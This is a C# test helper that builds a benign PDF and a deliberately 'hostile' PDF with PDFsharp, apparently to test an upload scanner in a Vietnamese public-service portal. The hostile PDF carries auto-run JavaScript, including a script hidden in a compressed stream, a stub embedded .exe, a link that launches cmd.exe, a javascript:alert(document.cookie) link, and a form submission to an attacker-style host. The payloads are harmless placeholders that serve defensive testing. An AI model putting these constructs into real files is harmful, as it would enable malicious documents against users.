using System.Text;
using PdfSharp.Pdf;
using PdfSharp.Pdf.Advanced;
using PdfSharp.Pdf.IO;

namespace CchcPortal.Tests.Support;

/// <summary>PDFs built in the test with PDFsharp, so what each one carries (scripts, embedded files...) is known.</summary>
public static class TestPdfs
{
    public const string PageText = "Don de nghi cap giay xac nhan";
    public const string SafeLink = "https://dichvucong.gov.vn/p/home/dvc-trang-chu.html";

    /// <summary>One page showing <see cref="PageText"/>, with a safe https link.</summary>
    public static byte[] Benign() => Save(NewDocument(out _));

    /// <summary>
    /// The benign document plus every kind of active content: JavaScript in /OpenAction, the catalog's and the page's
    /// /AA and the /Names tree; an embedded .exe (in /EmbeddedFiles and in a file-attachment annotation); links that
    /// launch a program, submit or import data, run javascript: or chain a script after a harmless jump; an XFA form
    /// and a rich-media annotation. The script text is in a compressed stream too, so only a decoded look finds it.
    /// </summary>
    public static byte[] Hostile()
    {
        var document = NewDocument(out var page);
        var catalog = document.Internals.Catalog;
        var script = Indirect(document, Action("/JavaScript", ("/JS", new PdfString("app.alert('openaction')"))));

        catalog.Elements["/OpenAction"] = script.Reference;
        catalog.Elements["/AA"] = Dictionary(document, ("/WC", Action("/JavaScript", ("/JS", new PdfString("app.alert('close')")))));
        page.Elements["/AA"] = Dictionary(document, ("/O", Action("/JavaScript", ("/JS", CompressedScript(document).Reference!))));

        var exe = Indirect(document, Dictionary(document, ("/Type", new PdfName("/EmbeddedFile"))));
        exe.CreateStream(Encoding.ASCII.GetBytes("MZ this program cannot be run in DOS mode"));
        var fileSpec = Indirect(document, Dictionary(document, ("/Type", new PdfName("/Filespec")), ("/F", new PdfString("hoa-don.exe")),
            ("/EF", Dictionary(document, ("/F", exe.Reference!)))));
        catalog.Elements["/Names"] = Dictionary(document,
            ("/JavaScript", Dictionary(document, ("/Names", new PdfArray(document, new PdfString("init"), Indirect(document, Action("/JavaScript", ("/JS", new PdfString("app.alert('names')")))).Reference!)))),
            ("/EmbeddedFiles", Dictionary(document, ("/Names", new PdfArray(document, new PdfString("hoa-don.exe"), fileSpec.Reference!)))));
        catalog.Elements["/AcroForm"] = Dictionary(document, ("/Fields", new PdfArray(document)), ("/XFA", new PdfString("<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")));

        var annotations = page.Elements.GetArray("/Annots")!;
        annotations.Elements.Add(Link(document, Action("/URI", ("/URI", new PdfString("javascript:alert(document.cookie)")))));
        annotations.Elements.Add(Link(document, Action("/Launch", ("/F", new PdfString("cmd.exe")))));
        annotations.Elements.Add(Link(document, Action("/SubmitForm", ("/F", new PdfString("http://ke-gian.example/thu")))));
        annotations.Elements.Add(Link(document, Action("/ImportData", ("/F", new PdfString("du-lieu.fdf")))));
        annotations.Elements.Add(Link(document, Action("/GoTo", ("/D", new PdfArray(document, page.Reference!, new PdfName("/Fit"))),
            ("/Next", Action("/JavaScript", ("/JS", new PdfString("app.alert('next')")))))));
        annotations.Elements.Add(Indirect(document, Dictionary(document, ("/Type", new PdfName("/Annot")), ("/Subtype", new PdfName("/FileAttachment")),
            ("/Rect", new PdfArray(document, new PdfInteger(0), new PdfInteger(0), new PdfInteger(20), new PdfInteger(20))), ("/FS", fileSpec.Reference!))).Reference!);
        annotations.Elements.Add(Indirect(document, Dictionary(document, ("/Type", new PdfName("/Annot")), ("/Subtype", new PdfName("/RichMedia")),
            ("/Rect", new PdfArray(document, new PdfInteger(0), new PdfInteger(0), new PdfInteger(20), new PdfInteger(20))),
            ("/RichMediaContent", Dictionary(document, ("/Assets", Dictionary(document, ("/Names", new PdfArray(document, new PdfString("phim.swf"), fileSpec.Reference!)))))))).Reference!);
        return Save(document);
    }

    /// <summary>Everything a reader of the file sees: the raw bytes, then every object with its streams decoded.</summary>
    public static string DecodedText(byte[] pdf)
    {
        var text = new StringBuilder(Encoding.Latin1.GetString(pdf));
        using var document = PdfReader.Open(new MemoryStream(pdf), PdfDocumentOpenMode.Import);
        foreach (var item in document.Internals.GetAllObjects())
        {
            text.Append('\n').Append(item);
            if (item is PdfDictionary { Stream: { } stream }) text.Append('\n').Append(Encoding.Latin1.GetString(stream.UnfilteredValue));
        }
        return text.ToString();
    }

    private static PdfDocument NewDocument(out PdfPage page)
    {
        var document = new PdfDocument();
        page = document.AddPage();
        var font = Dictionary(document, ("/Type", new PdfName("/Font")), ("/Subtype", new PdfName("/Type1")), ("/BaseFont", new PdfName("/Helvetica")));
        page.Elements["/Resources"] = Dictionary(document, ("/Font", Dictionary(document, ("/F1", font))));
        page.Contents.AppendContent().CreateStream(Encoding.ASCII.GetBytes($"BT /F1 14 Tf 72 720 Td ({PageText}) Tj ET"));
        var annotations = new PdfArray(document);
        annotations.Elements.Add(Link(document, Action("/URI", ("/URI", new PdfString(SafeLink)))));
        page.Elements["/Annots"] = annotations;
        return document;
    }

    private static PdfDictionary Link(PdfDocument document, PdfDictionary action) =>
        Dictionary(document, ("/Type", new PdfName("/Annot")), ("/Subtype", new PdfName("/Link")),
            ("/Rect", new PdfArray(document, new PdfInteger(72), new PdfInteger(700), new PdfInteger(300), new PdfInteger(720))), ("/A", action));

    private static PdfDictionary Action(string type, params (string Key, PdfItem Value)[] entries) =>
        Dictionary(null, [("/S", new PdfName(type)), .. entries]);

    private static PdfDictionary Dictionary(PdfDocument? document, params (string Key, PdfItem Value)[] entries)
    {
        var dictionary = document is null ? new PdfDictionary() : new PdfDictionary(document);
        foreach (var (key, value) in entries) dictionary.Elements[key] = value;
        return dictionary;
    }

    private static PdfDictionary Indirect(PdfDocument document, PdfDictionary dictionary)
    {
        document.Internals.AddObject(dictionary);
        return dictionary;
    }

    private static PdfDictionary CompressedScript(PdfDocument document)
    {
        var stream = Indirect(document, new PdfDictionary(document));
        using var packed = new MemoryStream();
        using (var zlib = new System.IO.Compression.ZLibStream(packed, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true))
            zlib.Write(Encoding.ASCII.GetBytes("app.alert('compressed page open')"));
        stream.CreateStream(packed.ToArray());
        stream.Elements["/Filter"] = new PdfName("/FlateDecode");
        return stream;
    }

    private static byte[] Save(PdfDocument document)
    {
        using (document)
        {
            using var output = new MemoryStream();
            document.Save(output, closeStream: false);
            return output.ToArray();
        }
    }
}
